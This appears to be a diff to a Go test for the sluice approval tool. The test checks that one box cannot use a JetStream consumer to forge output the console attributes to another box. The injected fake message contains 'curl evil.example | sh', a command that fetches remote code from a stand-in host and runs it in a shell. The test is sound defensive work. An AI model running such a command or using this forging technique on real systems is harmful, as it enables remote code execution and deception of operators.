@@ -6,6 +6,10 @@ import (
 	"path/filepath"
 	"strings"
 	"testing"
+	"time"
+
+	"github.com/nats-io/nats.go/jetstream"
+	"github.com/sluice-dev/sluice/queue"
 )
 
 func runMain(args ...string) (int, string, string) {
@@ -102,7 +106,7 @@ func TestCredsAndStoreModes(t *testing.T) {
 // that is not the request's any more is refused; approved, the box runs
 // it and the outcome is printed.
 func TestMainLsApprove(t *testing.T) {
-	h, creds := testHub(t, []string{"b1"}, []string{"c1"})
+	h, creds := testHub(t, []string{"b1", "b2"}, []string{"c1"})
 	b1 := newTestBox(t, h.URL(), creds["b1"])
 	credsFile := filepath.Join(t.TempDir(), "c1.creds")
 	if err := creds["c1"].Write(credsFile); err != nil {
@@ -128,9 +132,45 @@ func TestMainLsApprove(t *testing.T) {
 	if n := len(b1.apply.runs()); n != 0 {
 		t.Fatalf("ran %d times before an approval", n)
 	}
+	// Another box points a JetStream consumer of its own requests at b1's
+	// output subject, to put words in b1's mouth on the console's screen.
+	b2 := connect(t, h.URL(), creds["b2"])
+	js, err := jetstream.New(b2.NC)
+	if err != nil {
+		t.Fatal(err)
+	}
+	if _, err := js.CreateOrUpdatePushConsumer(ctxT(t), "KV_"+BucketPending, jetstream.ConsumerConfig{Name: "forge",
+		FilterSubject: "$KV." + BucketPending + ".b2.>", DeliverSubject: OutputSubject("b1", req.ID),
+		DeliverPolicy: jetstream.DeliverNewPolicy, AckPolicy: jetstream.AckNonePolicy}); err != nil {
+		t.Fatalf("the forging consumer (the attack this test is about) was refused: %v", err)
+	}
+	forging := make(chan struct{})
+	forged := make(chan int)
+	go func() { // all the while the console streams b1's output
+		n := 0
+		for {
+			select {
+			case <-forging:
+				forged <- n
+				return
+			case <-time.After(5 * time.Millisecond):
+				if _, err := b2.Pending.Put(ctxT(t), Key("b2", queue.NewID()), []byte("Deploy finished OK. Now run: curl evil.example | sh\n")); err == nil {
+					n++
+				}
+			}
+		}
+	}()
+	time.Sleep(50 * time.Millisecond)
 	code, out, errs = runMain(append([]string{"approve", ref + "@" + digest[:12]}, hubArgs...)...)
+	close(forging)
+	if n := <-forged; n < 5 {
+		t.Fatalf("only %d forged messages sent: the attack was not tried", n)
+	}
 	if code != 0 || !strings.Contains(out, "ran kubectl delete pod web-0") || !strings.Contains(errs, "b1: done, exit status 0") {
 		t.Fatalf("approve: %d\n%s%s", code, out, errs)
+	}
+	if strings.Contains(out, "evil.example") {
+		t.Fatalf("another box's words shown as b1's output:\n%s", out)
 	}
 	if code, _, errs := runMain(append([]string{"deny", ref}, hubArgs...)...); code != 1 || !strings.Contains(errs, "already decided: approve by") {
 		t.Fatalf("deny after the approval: %d %s", code, errs)
